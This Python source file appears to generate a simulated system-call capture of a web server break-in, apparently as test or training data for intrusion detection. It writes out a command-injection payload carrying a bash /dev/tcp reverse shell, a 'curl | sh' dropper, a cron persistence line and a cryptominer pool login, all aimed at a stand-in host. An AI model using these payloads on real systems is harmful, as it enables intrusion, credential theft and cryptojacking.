"""intrusion.scap: a command injection in a small web tool (python, running as root) gives an attacker a
reverse shell; they read /etc/shadow, plant a cron job under /etc, and pipe a downloaded script into sh,
which fetches and starts a cryptominer that connects out to a mining pool."""
from __future__ import annotations

import random
from urllib.parse import parse_qs, quote, urlsplit

from . import machines as mc
from . import programs as pg
from .kernel import ELF_HEADER, Kernel
from .sim import (
    AF_INET,
    MS,
    O_APPEND,
    O_CLOEXEC,
    O_CREAT,
    O_TRUNC,
    O_WRONLY,
    Gen,
    Proc,
    S,
    loopback_interfaces,
    run_all,
)

T_INTRUSION = 1710385964_731000000    # 2024-03-14 03:12:44 UTC
ME = "10.0.1.30"
APP = ("0.0.0.0", 8080)
C2 = "203.0.113.66"
SHADOW = (b"root:$y$j9T$Qm2VhV7c0zE9l2a6q3x1f/$8Jr0s0m7oNqQ1bq4vJYbY1gk2Yz9yXc4aD3wVtE5rF/:19790:0:99999:7:::\n"
          b"daemon:*:19709:0:99999:7:::\nbin:*:19709:0:99999:7:::\nwww-data:*:19709:0:99999:7:::\n"
          b"deploy:$y$j9T$kL2mN3bV4cX5zA6sD7fG8h$Yq1Wr2Te3Ty4Ui5Op6As7Df8Gh9Jk0Lz1Xc2Vb3Nm4:19795:0:99999:7:::\n")
DROPPER = (b"#!/bin/sh\nmkdir -p /tmp/.x\ncd /tmp/.x\ncurl -s -o upd http://203.0.113.66/upd\nchmod +x upd\n"
           b"nohup ./upd >/dev/null 2>&1 &\n")
CRON_LINE = "* * * * * root /tmp/.x/upd >/dev/null 2>&1"
COMMANDS = ["id", "cat /etc/shadow", f"echo '{CRON_LINE}' > /etc/cron.d/sysupd",
            "curl -s http://203.0.113.66/x.sh | sh", "exit"]
PING = (b"PING 10.0.1.1 (10.0.1.1) 56(84) bytes of data.\n64 bytes from 10.0.1.1: icmp_seq=1 ttl=64 time=0.412 ms\n\n"
        b"--- 10.0.1.1 ping statistics ---\n1 packets transmitted, 1 received, 0% packet loss, time 0ms\n"
        b"rtt min/avg/max/mdev = 0.412/0.412/0.412/0.000 ms\n")


def _ping(k: Kernel, p: Proc) -> Gen:
    fd = yield from k.socket(p, AF_INET, 2, 1)
    echo = b"\x08\x00\xf7\xff" + bytes(60)
    yield from k.simple(p, "sendto", dict(fd=fd, size=64, tuple=((ME, 0), ("10.0.1.1", 0))),
                        dict(res=64, data=echo))
    yield from k.simple(p, "recvfrom", dict(fd=fd, size=192),
                        dict(res=64, data=b"\x00" + echo[1:], tuple=(("10.0.1.1", 0), (ME, 0))),
                        wait=412_000)
    yield from pg.out(k, p, PING)


def _cmd(k: Kernel, parent: Proc, argv: list[str], body: pg.Body, **kw) -> Gen:
    yield from pg.run(k, parent, "/usr/bin/" + argv[0], argv, body, **kw)


def _miner(k: Kernel, p: Proc) -> Gen:
    """./upd: a static (musl) cryptominer that logs in to its pool and keeps the connection alive."""
    yield from pg.read_file(k, p, "/proc/cpuinfo", b"processor\t: 0\nvendor_id\t: GenuineIntel\ncpu family\t: 6\n",
                            at=False)
    fd = yield from k.socket(p, AF_INET, 1, 6)
    yield from k.connect(p, fd, (C2, 3333), local_ip=ME, rtt=38 * MS)
    login = (b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"45eoXYNHC4LcL2Hh42T9FMPTmZHyDEwDbgfBEuNj'
             b'3RZUek8A4og4KiCfVL6ZmvHBfCALnggWtHH7QTmmLHdaKAxM9zRMWqP","pass":"web-02","agent":"XMRig/6.21.0"}}\n')
    yield from k.send(p, fd, login)
    yield from k.recv(p, fd, 16384)
    for i in range(2, 100):
        yield k.rng.randint(1500, 2500) * MS
        yield from k.send(p, fd, b'{"id":%d,"jsonrpc":"2.0","method":"keepalived","params":{"id":"c0ffee"}}\n' % i)
        yield from k.recv(p, fd, 16384)


def _dropper_sh(k: Kernel, sh: Proc) -> Gen:
    """sh reading the downloaded script from the pipe and running it."""
    script = b""
    while True:
        chunk = yield from k.recv(sh, 0, 8192, name="read")
        if not chunk:
            break
        script += chunk
    yield from _cmd(k, sh, ["mkdir", "-p", "/tmp/.x"], lambda kk, c: kk.simple(
        c, "mkdir", dict(mode=0o777), dict(res=0, path="/tmp/.x")))
    yield from k.chdir(sh, "/tmp/.x")
    yield from _cmd(k, sh, ["curl", "-s", "-o", "upd", f"http://{C2}/upd"], lambda kk, c: _download(kk, c, "/upd", "upd"),
                    libs=("libcurl.so.4", "libc.so.6"))
    yield from _cmd(k, sh, ["chmod", "+x", "upd"], lambda kk, c: kk.simple(
        c, "chmod", {}, dict(res=0, filename="upd", mode=0o755)))

    def nohup(kk: Kernel, c: Proc) -> Gen:
        null = yield from kk.open(c, "/dev/null", O_WRONLY | O_CREAT | O_TRUNC, 0o666)
        yield from kk.dup2(c, null, 1)
        yield from kk.dup2(c, 1, 2)
        yield from kk.close(c, null)
        yield from kk.execve(c, "/tmp/.x/upd", ["./upd"], libs=None)
        yield from _miner(kk, c)
    yield from k.fork(sh, lambda c: nohup(k, c), daemon=True)


def _download(k: Kernel, p: Proc, path: str, out_path: str) -> Gen:
    fd = yield from k.open(p, out_path, O_WRONLY | O_CREAT | O_TRUNC, 0o666)
    sock = yield from pg.http_get(k, p, C2, (C2, 80), path, local_ip=ME, sink=fd)
    yield from k.close(p, sock)
    yield from k.close(p, fd)


def _reverse_shell(k: Kernel, c: Proc) -> Gen:
    """bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1': the redirections, then exec bash -i."""
    fd = yield from k.socket(c, AF_INET, 1, 0)
    yield from k.connect(c, fd, (C2, 4444), local_ip=ME, rtt=41 * MS)
    yield from k.dup2(c, fd, 1)
    yield from k.close(c, fd)
    yield from k.dup2(c, 1, 2)
    yield from k.dup2(c, 1, 0)
    yield from k.execve(c, "/usr/bin/bash", ["bash", "-i"], libs=("libtinfo.so.6", "libc.so.6"))
    yield from k.simple(c, "ioctl", dict(fd=2, request=0x540F, argument=0x7FFD2C4B19A4), dict(res=-25))
    yield from pg.out(k, c, b"bash: cannot set terminal process group (1400): Inappropriate ioctl for device\n"
                            b"bash: no job control in this shell\n", 2)
    while True:
        yield from pg.out(k, c, f"root@web-02:{c.cwd}# ".encode(), 2)
        line = b""
        while not line.endswith(b"\n"):
            ch = yield from k.recv(c, 0, 1, name="read")
            if not ch:
                return
            line += ch
        cmd = line.decode().strip()
        if cmd == "exit":
            yield from pg.out(k, c, b"exit\n", 2)
            return
        yield from _run_attacker_command(k, c, cmd)


def _run_attacker_command(k: Kernel, c: Proc, cmd: str) -> Gen:
    if cmd == "id":
        yield from _cmd(k, c, ["id"], pg.text("uid=0(root) gid=0(root) groups=0(root)\n"))
    elif cmd.startswith("cat "):
        yield from _cmd(k, c, cmd.split(), pg.cat("/etc/shadow", SHADOW))
    elif cmd.startswith("echo "):
        # a builtin with a redirection: bash opens the file, saves fd 1, writes, restores fd 1
        fd = yield from k.open(c, "/etc/cron.d/sysupd", O_WRONLY | O_CREAT | O_TRUNC, 0o666)
        saved = yield from k.dupfd(c, 1, 10)
        yield from k.dup2(c, fd, 1)
        yield from k.close(c, fd)
        yield from k.write(c, 1, CRON_LINE.encode() + b"\n")
        yield from k.dup2(c, saved, 1)
        yield from k.close(c, saved)
    else:
        yield from pg.pipeline(k, c, [
            ("/usr/bin/curl", ["curl", "-s", f"http://{C2}/x.sh"],
             lambda kk, p: pg.http_get(kk, p, C2, (C2, 80), "/x.sh", local_ip=ME)),
            ("/usr/bin/sh", ["sh"], _dropper_sh)])


def _sh_c(cmd: str) -> pg.Body:
    """/bin/sh -c "<cmd>": each ;-separated command forked and waited for."""
    def body(k: Kernel, sh: Proc) -> Gen:
        for part in cmd.split(";"):
            if part.startswith("ping"):
                yield from _cmd(k, sh, part.split(), _ping, libs=("libcap.so.2", "libidn2.so.0", "libc.so.6"))
            else:
                inner = part.split("'")[1]
                yield from pg.run(k, sh, "/usr/bin/bash", ["bash", "-c", inner], _reverse_shell,
                                  libs=("libtinfo.so.6", "libc.so.6"))
    return body


def tool_app(k: Kernel, p: Proc) -> Gen:
    """app.py (Flask, debug server, running as root): /ping?host=... runs `ping -c 1 <host>` in a shell."""
    while True:
        cfd = yield from k.accept(p, 3, cloexec=True)
        req = yield from k.recv(p, cfd, 65536)
        target = req.split(b" ")[1].decode()
        host = parse_qs(urlsplit(target).query)["host"][0]
        r, w = yield from k.pipe(p)

        def child(kk: Kernel, c: Proc, r=r, w=w) -> Gen:
            yield from kk.dup2(c, w, 1)
            yield from kk.dup2(c, w, 2)
            yield from kk.close(c, r)
            yield from kk.close(c, w)
        cmd = f"ping -c 1 {host}"
        sh_body = pg.exec_body("/usr/bin/sh", ["/bin/sh", "-c", cmd], _sh_c(cmd), before=child)
        sh = yield from k.fork(p, lambda c, body=sh_body: body(k, c))
        yield from k.close(p, w)
        output = b""
        while True:
            chunk = yield from k.recv(p, r, 32768, name="read")
            if not chunk:
                break
            output += chunk
        yield from k.wait_child(p, sh)
        yield from k.close(p, r)
        page = b"<pre>" + output + b"</pre>\n"
        yield from k.send(p, cfd, pg.http_response("200 OK", page, ctype="text/html; charset=utf-8",
                                                   server="Werkzeug/3.0.1 Python/3.11.6",
                                                   date=k.now("%a, %d %b %Y %H:%M:%S GMT")))
        line = f'{k.end(p, cfd).remote[0]} - - [{k.now("%d/%b/%Y %H:%M:%S")}] "GET {target} HTTP/1.1" 200 -\n'
        yield from k.write(p, 2, line.encode())
        yield from k.close(p, cfd)


def attacker(k: Kernel) -> Gen:
    """The attacker's listener on 203.0.113.66:4444 (nc -lvnp 4444): waits for each prompt, types a command."""
    addr = (C2, 4444)
    lst = k.listeners[addr] = pg.Listener(addr)
    while not lst.queue:
        yield 5 * MS
    _, end = lst.queue.popleft()
    for cmd in COMMANDS:
        seen = b""
        while not seen.endswith(b"# "):
            while not end.rx.chunks:
                yield 5 * MS
            seen += end.rx.take(1 << 20)
        yield k.rng.randint(2500, 7000) * MS
        end.tx.chunks.append(cmd.encode() + b"\n")


def _request(path: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {ME}:8080\r\nUser-Agent: python-requests/2.31.0\r\n\r\n".encode()


def intrusion(*, seed: int = 4, snaplen: int = 80) -> Kernel:
    k = Kernel(seed=seed, start=T_INTRUSION, hostname="web-02", snaplen=snaplen, first_pid=31000)
    k.interfaces = loopback_interfaces(("eth0", ME, "255.255.255.0"))
    mc.base_system(k, users=((1000, "deploy"),))
    app = k.add_proc(1400, 1, "python3", "/usr/bin/python3.11", ["/srv/tools/app.py"], exe="/usr/bin/python3",
                     cwd="/srv/tools", cgroups=mc.cgroups("nettools.service"))
    mc.devnull(k, app, (0, 1))
    k.fd_file(app, 2, "/var/log/nettools/app.log", O_WRONLY | O_APPEND)
    k.fd_listen(app, 3, APP)
    app.fds[3].open_flags = O_CLOEXEC     # python sockets are not inheritable
    k.ends[(app.pid, 3)] = pg.End(None, None, APP)
    k.listeners[APP] = pg.Listener(APP, 128)
    pg.remote_server(k, (C2, 80), lambda req: _c2_http(k, req))
    pg.remote_server(k, (C2, 3333), _pool)
    k.spawn(tool_app(k, app), daemon=True)
    k.spawn(attacker(k), daemon=True)
    src = (C2, 51862)
    evil = "10.0.1.1;bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"
    run_all(k, [pg.remote_client(k, (ME, 8080), src, [_request("/ping?host=10.0.1.1")], via=APP, think=(400, 500)),
                _later(k, 4 * S, pg.remote_client(k, (ME, 8080), (C2, 51880), [_request("/ping?host=" + quote(evil))],
                                                  via=APP, linger=3 * S))])
    return k


def _pool(req: bytes) -> list[bytes] | None:
    """The mining pool: a job for the login, KEEPALIVED for each keepalive."""
    if not req.endswith(b"\n"):
        return None
    rid = req.split(b'"id":', 1)[1].split(b",", 1)[0]
    if b'"login"' in req:
        return [b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"c0ffee","job":{"blob":"0e0ee8a5c7b006",'
                b'"job_id":"384","target":"ffff"},"status":"OK"}}\n']
    return [b'{"id":' + rid + b',"jsonrpc":"2.0","error":null,"result":{"status":"KEEPALIVED"}}\n']


def _c2_http(k: Kernel, req: bytes) -> list[bytes] | None:
    if not req.endswith(b"\r\n\r\n"):
        return None
    path = req.split(b" ")[1]
    date = k.now("%a, %d %b %Y %H:%M:%S GMT")
    if path == b"/x.sh":
        return [pg.http_response("200 OK", DROPPER, ctype="text/x-sh", server="SimpleHTTP/0.6 Python/3.10.12", date=date)]
    body = _elf_blob()
    return [pg.http_response("200 OK", body, ctype="application/octet-stream", server="SimpleHTTP/0.6 Python/3.10.12",
                             date=date)]


def _elf_blob() -> bytes:
    return ELF_HEADER + random.Random(66).randbytes(24000)


def _later(k: Kernel, delay: int, gen: Gen) -> Gen:
    yield delay
    yield from gen
